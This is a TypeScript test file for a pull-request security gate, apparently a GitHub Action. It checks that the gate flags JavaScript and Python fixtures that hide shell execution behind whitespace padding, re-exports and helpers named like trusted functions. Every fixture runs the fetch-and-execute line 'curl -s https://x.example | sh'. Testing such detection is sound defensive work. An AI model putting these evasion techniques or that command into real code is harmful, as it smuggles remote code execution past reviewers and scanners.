import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { gate, pullRequest, scanAnnotations } from "./pr";

// A pull request must not open the gate by padding what the scan reads through a text window (a container literal, a
// value in parentheses, a factory's return, an import list, a specifier: each ran its command under Node 20 or Python 3
// and passed the gate before), nor by naming a function of its own like one the scan trusts (`log`, `cast`, `promisify`).

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

const CMD = "curl -s https://x.example | sh";
const PAD = (n: number) => " ".repeat(n);

describe("padding and borrowed names do not open the gate", () => {
  it("scan/shell-command: JavaScript padded past each window, and passes to a project's own `log`, `promisify` and `__importStar`, fail the built Action", async () => {
    const pr = await pullRequest((dir) => {
      mkdirSync(join(dir, "agent/lib"), { recursive: true });
      writeFileSync(join(dir, "agent/lib/shell.mjs"), 'export { execSync } from "node:child_process";\n');
      writeFileSync(join(dir, "agent/lib/helper.js"), "exports.log = (f, c) => f(c);\nexports.promisify = (f, c) => f(c);\nexports.__importStar = (f, c) => f(c);\n");
      writeFileSync(join(dir, "agent/padded.js"), `const cp = require("node:child_process");\nconst t = {${PAD(4100)}r: cp.execSync };\nt.r("${CMD}");\nfunction make() {\n  return (${PAD(300)}cp.execSync);\n}\nmake()("${CMD}");\nfor (const [k, ${PAD(300)}f] of Object.entries(cp)) if (k === "execSync") f("${CMD}");\n`);
      writeFileSync(join(dir, "agent/listed.mjs"), `import {${PAD(4200)}execSync } from "./lib/shell.mjs";\nimport { execSync as run } from "./${"lib/../".repeat(75)}lib/shell.mjs";\nexecSync("${CMD}");\nrun("${CMD}");\n`);
      writeFileSync(join(dir, "agent/named.js"), `const cp = require("node:child_process");\nconst { log, promisify, __importStar } = require("./lib/helper");\nlog(cp.execSync, "${CMD}");\npromisify(cp.execSync, "${CMD}");\n__importStar(cp.execSync, "${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/listed.mjs 3 1",
      "scan/shell-command agent/listed.mjs 4 1",
      "scan/shell-command agent/named.js 3 5",
      "scan/shell-command agent/named.js 4 11",
      "scan/shell-command agent/named.js 5 14",
      "scan/shell-command agent/padded.js 3 1",
      "scan/shell-command agent/padded.js 7 1",
      "scan/shell-command agent/padded.js 8 364",
    ]);
  });

  it("scan/shell-command: Python padded past each window, and passes to a project's own `cast` and `getattr`, fail the built Action", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/helper.py"), "def cast(f, c):\n    return f(c, shell=True)\ndef getattr(f, c):\n    return f(c, shell=True)\n");
      writeFileSync(join(dir, "agent/padded.py"), `import subprocess\nt = {${PAD(4100)}"r": subprocess.run}\nt["r"]("${CMD}", shell=True)\nf = (${PAD(1100)}subprocess.run)\nf("${CMD}", shell=True)\ndef make():\n    return {${PAD(4200)}"run": subprocess.run}\nmake()["run"]("${CMD}", shell=True)\nd = dict${PAD(60)}(vars(subprocess))\nd["run"]("${CMD}", shell=True)\n`);
      writeFileSync(join(dir, "agent/named.py"), `import subprocess\nfrom helper import cast, getattr\ncast(subprocess.run, "${CMD}")\ngetattr(subprocess.run, "${CMD}")\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/named.py 3 6",
      "scan/shell-command agent/named.py 4 9",
      "scan/shell-command agent/padded.py 10 1",
      "scan/shell-command agent/padded.py 3 1",
      "scan/shell-command agent/padded.py 5 1",
      "scan/shell-command agent/padded.py 8 1",
    ]);
  });

  it("scan/shell-command: a Python lambda held by a name and a JavaScript async function, called for what they return, fail the built Action", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/lambdas.py"), `import os\nmk = lambda: os.system\nmk()("${CMD}")\n`);
      writeFileSync(join(dir, "agent/later.js"), `const cp = require("node:child_process");\nasync function mk() { return cp.execSync; }\nmk().then((run) => run("${CMD}"));\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/lambdas.py 3 1", "scan/shell-command agent/later.js 3 20"]);
  });
});
